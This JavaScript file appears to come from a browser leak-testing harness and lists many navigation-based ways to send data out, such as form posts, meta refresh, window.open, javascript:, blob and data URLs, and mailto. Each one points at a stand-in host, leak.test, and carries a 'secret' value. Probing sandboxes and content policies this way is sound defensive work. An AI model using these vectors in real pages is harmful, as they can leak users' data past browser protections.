// Navigations go to a name of their own: a look-up tells as much as a request.
const N = (v) => 'http://nav-' + v.toLowerCase() + '-' + T + '.leak.test:' + CFG.port + '/' + T + '/nav-' + v;
const NAV = {
  location: () => {
    location.href = N('location');
  },
  replace: () => location.replace(N('replace')),
  navapi: () => navigation.navigate(N('navapi')),
  form: () => {
    const f = el('form', { action: N('form'), method: 'post' });
    const i = document.createElement('input');
    i.name = 'd';
    i.value = 'secret';
    f.appendChild(i);
    f.submit();
  },
  aclick: () => el('a', { href: N('aclick') }).click(),
  ablank: () => el('a', { href: N('ablank'), target: '_blank' }).click(),
  adownload: () => el('a', { href: N('adownload'), download: 'x' }).click(),
  open: () => {
    window.open(N('open'));
  },
  top: () => {
    window.top.location.href = N('top');
  },
  metarefresh: () => {
    const m = document.createElement('meta');
    m.httpEquiv = 'refresh';
    m.content = '0;url=' + N('metarefresh');
    document.head.appendChild(m);
  },
  metaClone: () => {
    const m = document.querySelector('meta').cloneNode();
    m.httpEquiv = 'refresh';
    m.content = '0;url=' + N('metaClone');
    document.head.appendChild(m);
  },
  write: () => document.write(markup('write')),
  assign: () => location.assign(N('assign')),
  openSelf: () => {
    window.open(N('openSelf'), '_self');
  },
  https: () => {
    location.href = N('https').replace('http', 'https');
  },
  parentReplace: () => parent.location.replace(N('parentReplace')),
  openerBlank: () => {
    const w = window.open('about:blank');
    w.location.href = N('openerBlank');
  },
  blankFetch: () => {
    const w = window.open('about:blank');
    w.fetch(N('blankFetch'), { mode: 'no-cors' });
  },
  jsurl: () => {
    location.href = 'javascript:void(fetch("' + N('jsurl') + '"))';
  },
  blobnav: () => {
    location.href = URL.createObjectURL(new Blob(['<img src="' + N('blobnav') + '">'], { type: 'text/html' }));
  },
  datanav: () => {
    location.href = 'data:text/html,<img src="' + N('datanav') + '">';
  },
  mailto: () => {
    location.href = 'mailto:x@leak.test?body=secret';
  },
  reload: () => {
    location.search = '?secret';
  },
};
